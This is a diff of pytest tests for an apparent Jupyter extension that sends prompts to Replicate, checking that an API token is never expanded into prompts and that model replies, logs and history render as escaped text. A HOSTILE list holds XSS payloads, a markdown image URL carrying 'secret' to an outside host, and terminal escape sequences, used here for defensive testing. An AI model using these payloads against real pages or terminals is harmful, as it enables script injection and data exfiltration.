@@ -393,14 +393,58 @@ def test_prompt_expands_names_and_keeps_json_braces(kernel, emu):
     assert create.json["input"]["prompt"] == 'Tell me about tides. Answer as JSON like {"topic": "x", "n": 1}.'
 
 
+def test_pasted_code_is_sent_as_typed_and_the_token_is_never_expanded(kernel, emu):
+    kernel.ok("i, secret = 3, __import__('os').environ['REPLICATE_API_TOKEN']")  # the token, never typed
+    cell = kernel.ok('%%replicate --no-history\nFix {i} bugs in:\n```python\nprint(f"row {i}")\n```\n'
+                     "Use `{i}` and {secret} and {{i}}.")
+    (create,) = [r for r in emu.requests if r.method == "POST" and r.path.endswith("/predictions")]
+    assert create.json["input"]["prompt"] == (
+        'Fix 3 bugs in:\n```python\nprint(f"row {i}")\n```\nUse `{i}` and {secret} and {i}.')
+    line = plain(cell.outputs[-1])
+    assert "expanded: {i}" in line and "not expanded, since the value holds the API token: {secret}" in line
+
+    kernel.ok("%%replicate --no-history --no-expand\nExactly {i}.")
+    assert [r for r in emu.requests if r.method == "POST"][-1].json["input"]["prompt"] == "Exactly {i}."
+
+
+HOSTILE = ['<img src=x onerror="window.pwned=1"> ', "\\`<img src=x ", 'onerror="window.pwned=2">\\` ',
+           "[x](&#106;avascript:window.pwned=3) ", "![](https://elsewhere.example/p.png?d=secret)\n\n",
+           "```a`b\n<svg onload=window.pwned=4>\n```\n", "\x1b]52;c;ZXZpbA==\x07\x1b[2J done"]
+
+
+def test_hostile_replies_logs_and_history_stay_text(kernel, emu):
+    emu.inject(Faults(tokens=HOSTILE, logs=["\x1b]0;title\x07", '<img src=x onerror="window.pwned=5"> loading'],
+                      cold_start=0.6))
+    cell = kernel.ok("%%replicate -c hostile\nRepeat it.")
+    _, area = _reply_area(cell)
+    statuses = [html(m) for m in area if plain(m).startswith("[")]
+    assert any("&lt;img src=x onerror=&quot;window.pwned=5&quot;&gt; loading" in s for s in statuses), statuses
+    assert not any("\x1b" in s for s in statuses)
+    final = html(area[-1])
+    assert "&lt;img src=x onerror=&quot;window.pwned=1&quot;&gt;" in final
+    assert "<img" not in final and "<svg" not in final and "javascript:" not in final.replace("avascript", "")
+    assert plain(area[-1]) == "".join(HOSTILE)  # the text itself is kept, as the model wrote it
+
+    history = kernel.run("%replicate history hostile")
+    (shown,) = history.of_type("execute_result")
+    assert "&lt;img src=x onerror=&quot;window.pwned=1&quot;&gt;" in html(shown)
+    assert "\x1b" not in plain(shown)  # the text/plain a terminal would print
+
+    failed = kernel.run("%%replicate -m owner/<img/src=x/onerror=window.pwned=6>\nHi")
+    assert failed.status == "error"
+    status = [html(m) for m in failed.of_type("display_data", "update_display_data")]
+    assert any("asking owner/&lt;img/src=x/onerror=window.pwned=6&gt;" in s for s in status), status
+    # The autouse check then parses every text/html of these cells against the allow-list.
+
+
 # -- 10: loading the extension is cheap ------------------------------------------------------------------
 
 
 def test_load_ext_imports_neither_aiohttp_nor_ipywidgets(fresh_kernel, emu):
     kernel = _use(fresh_kernel, emu)
-    heavy = "sorted({m.split('.')[0] for m in __import__('sys').modules} & {'aiohttp', 'ipywidgets'})"
+    heavy = "sorted({m.split('.')[0] for m in __import__('sys').modules} & {'aiohttp', 'ipywidgets', 'markdown_it'})"
     assert kernel.eval(heavy) == []
     kernel.ok("%load_ext replicate_magic")
     assert kernel.eval(heavy) == []
     kernel.ok("%%replicate\nHi.")
-    assert kernel.eval(heavy) == ["aiohttp"]  # loaded when first needed (so the check can fail)
+    assert kernel.eval(heavy) == ["aiohttp", "markdown_it"]  # loaded when first needed (so the check can fail)
